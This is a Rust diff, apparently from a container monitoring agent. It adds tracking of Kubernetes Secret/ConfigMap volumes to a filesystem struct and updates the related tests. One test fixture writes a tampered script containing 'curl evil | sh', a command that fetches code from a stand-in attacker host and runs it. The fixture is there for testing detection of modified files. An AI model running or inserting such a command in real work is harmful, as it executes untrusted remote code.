@@ -153,6 +153,8 @@ pub struct ContainerFs {
     pub overlay: Option<OverlayDirs>,
     /// Mount points other than the root and kernel filesystems, longest first.
     pub volumes: Vec<PathBuf>,
+    /// Those of `volumes` the kubelet writes atomically (Secret, ConfigMap, ...).
+    pub config_volumes: Vec<PathBuf>,
 }
 
 impl ContainerFs {
@@ -160,6 +162,11 @@ impl ContainerFs {
     pub fn on_volume(&self, path: &Path) -> bool {
         // Whole components: /data/x is under /data, /datax is not.
         self.volumes.iter().any(|m| path.starts_with(m))
+    }
+
+    /// `path` is on a Secret/ConfigMap/projected volume (normally read-only).
+    pub fn on_config_volume(&self, path: &Path) -> bool {
+        self.config_volumes.iter().any(|m| path.starts_with(m))
     }
 }
 
@@ -188,7 +195,15 @@ pub fn volumes_from_mountinfo(text: &str) -> Vec<PathBuf> {
 /// when that cannot be read (the process is gone).
 pub fn container_fs_of(pid: u32) -> Option<ContainerFs> {
     let text = mountinfo_text(std::fs::read(format!("/proc/{pid}/mountinfo")).ok()?);
-    Some(ContainerFs { overlay: root_overlay_from_mountinfo(&text), volumes: volumes_from_mountinfo(&text) })
+    let volumes = volumes_from_mountinfo(&text);
+    // One readlink per volume, once per container: the atomic writer's layout.
+    let root = PathBuf::from(format!("/proc/{pid}/root"));
+    let config_volumes = volumes
+        .iter()
+        .filter(|m| super::atomic_volume::payload_of(&root.join(m.strip_prefix("/").unwrap_or(m))).is_some())
+        .cloned()
+        .collect();
+    Some(ContainerFs { overlay: root_overlay_from_mountinfo(&text), volumes, config_volumes })
 }
 
 /// A host path as this agent can open it: directly when it runs in the host's
@@ -289,7 +304,7 @@ mod tests {
         assert_eq!(d.upper, path_of(b"/u \xfe".to_vec()));
         let v = volumes_from_mountinfo(&text);
         assert_eq!(v, vec![path_of(b"/scr\xffatch x".to_vec())]);
-        let fs = ContainerFs { overlay: None, volumes: v };
+        let fs = ContainerFs { overlay: None, volumes: v, config_volumes: vec![] };
         assert!(fs.on_volume(&crate::escape::path("/scr\\xffatch x/run.sh", true)));
         assert!(!fs.on_volume(Path::new("/scr\u{fffd}atch x/run.sh")));
         assert_eq!(mountinfo_text(b"plain".to_vec()), "plain");
@@ -341,8 +356,11 @@ mod tests {
         std::fs::write(lo.join("bin/edited.sh"), b"#!/bin/sh\n").unwrap();
         std::fs::write(up.join("bin/edited.sh"), b"#!/bin/sh\ncurl evil | sh\n").unwrap();
         std::fs::write(up.join("bin/dropped.sh"), b"#!/bin/sh\n").unwrap();
-        let fs =
-            ContainerFs { overlay: Some(OverlayDirs { upper: up, lowers: vec![lo] }), volumes: vec!["/data".into()] };
+        let fs = ContainerFs {
+            overlay: Some(OverlayDirs { upper: up, lowers: vec![lo] }),
+            volumes: vec!["/data".into()],
+            config_volumes: vec![],
+        };
         // A script whose name is not UTF-8 is found by its bytes.
         let bad = std::ffi::OsStr::from_bytes(b"bin/bad\xff.sh");
         std::fs::write(fs.overlay.as_ref().unwrap().upper.join(bad), b"#!/bin/sh\n").unwrap();
